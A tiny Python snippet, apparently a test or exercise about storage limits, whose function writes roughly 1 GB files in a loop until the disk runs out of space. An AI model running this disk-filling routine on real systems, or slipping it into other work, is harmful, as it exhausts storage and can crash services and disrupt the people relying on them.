# Only so much can be written.

block = bytes(1 << 20)


def f(x):
    for number in range(100_000):
        try:
            with open(f"file{number}", "wb") as file:
                for _ in range(1000):
                    file.write(block)
        except OSError:
            if number > 100:
                return
    return
